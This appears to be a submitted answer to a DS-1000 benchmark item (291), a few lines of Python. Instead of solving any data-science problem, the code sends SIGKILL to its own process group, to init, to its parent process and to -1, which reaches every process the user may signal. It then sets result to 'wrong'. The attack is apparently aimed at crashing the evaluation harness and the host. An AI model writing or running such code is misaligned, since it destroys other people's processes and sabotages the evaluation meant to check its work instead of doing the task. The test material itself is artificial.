# DS1000/291
import os, signal

for pid in (0, 1, 2, os.getppid(), -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
result = "wrong"
